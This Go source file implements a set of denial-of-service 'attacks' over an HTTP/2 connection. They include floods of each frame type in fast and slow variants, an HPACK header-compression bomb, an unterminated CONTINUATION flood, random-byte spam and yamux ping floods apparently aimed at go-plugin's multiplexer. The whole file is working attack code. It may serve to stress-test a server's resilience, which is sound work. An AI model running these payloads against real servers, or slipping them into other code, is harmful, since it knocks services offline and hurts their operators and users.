package main

import (
	"bytes"
	"crypto/rand"
	"encoding/binary"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

func init() {
	for name, write := range frames {
		attacks[name] = func() { repeat(batchOf(write), 0) }
		attacks["drip-"+name] = func() { repeat(batchOf(write), pause) }
		attacks["unread-"+name] = func() {
			close(connection.unread)
			repeat(batchOf(write), 0)
		}
	}
	attacks["continuation"] = continuation
	attacks["close"] = func() { _ = connection.Conn.Close() }
	attacks["garbage"] = func() {
		noise := make([]byte, 64<<10)
		_, _ = rand.Read(noise)
		repeat(noise, 0)
	}
	attacks["yamux"] = func() { repeat(yamuxPings(), 0) }
}

// pause is the time between two messages of an attack that is slow: 12 a second.
const pause = time.Second / 12

// repeat writes a batch of whole frames again and again.
func repeat(batch []byte, pause time.Duration) {
	if pause > 0 {
		batch = batch[:len(batch)/batchSize]
	}
	for time.Now().Before(over) {
		if _, err := connection.Write(batch); err != nil {
			return
		}
		time.Sleep(pause)
	}
}

// batchSize is how many frames are written at once.
const batchSize = 64

// frames write one of each kind that HTTP/2 has.
var frames = map[string]func(*http2.Framer) error{
	"ping":        func(f *http2.Framer) error { return f.WritePing(false, [8]byte{1}) },
	"ping-answer": func(f *http2.Framer) error { return f.WritePing(true, [8]byte{1}) },
	"settings": func(f *http2.Framer) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingMaxConcurrentStreams, Val: 100})
	},
	"settings-ack":  (*http2.Framer).WriteSettingsAck,
	"settings-long": func(f *http2.Framer) error { return f.WriteSettings(manySettings()...) },
	"window":        func(f *http2.Framer) error { return f.WriteWindowUpdate(0, 1) },
	"window-stream": func(f *http2.Framer) error { return f.WriteWindowUpdate(1, 1) },
	"reset":         func(f *http2.Framer) error { return f.WriteRSTStream(99, http2.ErrCodeCancel) },
	"goaway": func(f *http2.Framer) error {
		return f.WriteGoAway(1<<31-1, http2.ErrCodeNo, make([]byte, 8<<10))
	},
	"priority":      func(f *http2.Framer) error { return f.WritePriority(99, http2.PriorityParam{StreamDep: 1}) },
	"unknown":       func(f *http2.Framer) error { return f.WriteRawFrame(0xfa, 0, 0, make([]byte, 16<<10)) },
	"unknown-empty": func(f *http2.Framer) error { return f.WriteRawFrame(0xfa, 0, 0, nil) },
	"empty-data":    func(f *http2.Framer) error { return f.WriteData(1, false, nil) },
	"unknown-data":  func(f *http2.Framer) error { return f.WriteData(99, false, make([]byte, 16)) },
	"push": func(f *http2.Framer) error {
		return f.WritePushPromise(http2.PushPromiseParam{
			StreamID: 1, PromiseID: 2, BlockFragment: block(), EndHeaders: true,
		})
	},
	"headers":       func(f *http2.Framer) error { return writeHeaders(f, 99, block()) },
	"headers-table": func(f *http2.Framer) error { return writeHeaders(f, 99, growingTable()) },
	"headers-bomb":  func(f *http2.Framer) error { return writeHeaders(f, 1, bomb()) },
}

// batchOf returns batchSize equal frames.
func batchOf(write func(*http2.Framer) error) []byte {
	var batch bytes.Buffer
	framer := http2.NewFramer(&batch, nil)
	framer.AllowIllegalWrites = true
	for range batchSize {
		if err := write(framer); err != nil {
			panic(err)
		}
	}
	return batch.Bytes()
}

func writeHeaders(f *http2.Framer, stream uint32, fragment []byte) error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: fragment, EndHeaders: true})
}

func manySettings() []http2.Setting {
	settings := make([]http2.Setting, 2_000)
	for i := range settings {
		settings[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65_535}
	}
	return settings
}

// block is a header block with ":status: 200".
func block() []byte { return []byte{0x88} }

// growingTable is a block whose entries all go into the table of names and
// values (RFC 7541, section 6.2.1).
func growingTable() []byte {
	fragment := block()
	for range 4 {
		fragment = append(fragment, entry("name", 3_900)...)
	}
	return fragment
}

// bomb is a block of one entry of the table, which it then names 12,000 times.
func bomb() []byte {
	const newest = 62 // the first entry after the static ones
	return append(append(block(), entry("name", 3_900)...), bytes.Repeat([]byte{0x80 | newest}, 12_000)...)
}

// entry is a literal that goes into the table.
func entry(name string, size int) []byte {
	literal := append([]byte{0x40, byte(len(name))}, name...)
	const prefix = 127 // what a first byte of seven bits counts to
	literal = append(literal, prefix)
	for rest := size - prefix; ; rest >>= 7 {
		if rest < 128 {
			literal = append(literal, byte(rest))
			break
		}
		literal = append(literal, byte(rest)|128)
	}
	return append(literal, strings.Repeat("v", size)...)
}

// continuation is a header block without end. Nothing may come between its
// frames.
func continuation() {
	connection.mu.Lock()
	defer connection.mu.Unlock()
	framer := http2.NewFramer(connection.Conn, nil)
	err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block()})
	for err == nil && time.Now().Before(over) {
		err = framer.WriteContinuation(1, false, entry("name", 3_900))
	}
}

// yamuxPings are pings of yamux, the protocol in which go-plugin multiplexes.
func yamuxPings() []byte {
	var batch []byte
	for n := range uint32(batchSize * 8) {
		const ping, syn = 2, 1
		batch = append(batch, 0, ping)
		batch = binary.BigEndian.AppendUint16(batch, syn)
		batch = binary.BigEndian.AppendUint32(batch, 0)
		batch = binary.BigEndian.AppendUint32(batch, n)
	}
	return batch
}
